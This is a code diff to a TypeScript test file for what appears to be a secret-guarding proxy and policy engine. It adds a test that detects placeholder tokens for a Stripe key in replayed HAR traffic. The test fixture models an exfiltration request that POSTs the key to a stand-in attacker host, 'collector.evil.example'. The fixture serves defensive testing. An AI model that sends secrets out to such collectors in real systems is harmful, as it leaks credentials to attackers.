@@ -6,7 +6,7 @@ import path from 'node:path';
 import t, { type Test } from 'tap';
 import { AuditLog } from '../../engine/audit-log.ts';
 import { PolicyEngine } from '../../engine/engine.ts';
-import { readHar } from '../../engine/har.ts';
+import { placeholderShapeFinder, readHar } from '../../engine/har.ts';
 import { detectFormat, openPolicy, parseTimeFlag, replay, replayFiles, type ReplayItem } from '../../engine/replay.ts';
 import { describeRequest } from '../../proxy/describe.ts';
 import type { RequestDescription } from '../../engine/types.ts';
@@ -277,4 +277,17 @@ t.test('a replay with no policy loaded denies (fails closed) rather than throwin
   const r = await replay(one(), { policy: engine });
   t.same(r.after, { allow: 0, deny: 1, approve: 0 });
   t.equal(r.policyVersion, 'none');
+});
+
+t.test('HAR placeholders: found by shape without the store, raw or percent-encoded', async (t) => {
+  const ph = 'airlock-ph-stripe_key-0123456789abcdef0123456789abcdef';
+  t.same(placeholderShapeFinder.find(`Bearer ${ph}`), ['stripe_key']);
+  t.same(placeholderShapeFinder.find(encodeURIComponent(`k=${ph}`).replace(/-/g, '%2D')), ['stripe_key']);
+  t.same(placeholderShapeFinder.find('airlock-ph-x-123'), [], 'not the shape of a placeholder');
+  const har = { log: { version: '1.2', creator: { name: 't', version: '1' }, entries: [
+    harEntry({ method: 'POST', url: 'https://collector.evil.example/k', headers: [{ name: 'Content-Type', value: 'application/json' }], bodySize: 10, postData: { mimeType: 'application/json', text: JSON.stringify({ key: ph }) } }),
+  ] } };
+  const dir = t.testdir({ 'x.har': JSON.stringify(har) });
+  const [item] = await collect(readHar(path.join(dir, 'x.har')));
+  t.match(item, { kind: 'request', input: { placeholders: [{ name: 'stripe_key', where: ['body'] }] } });
 });
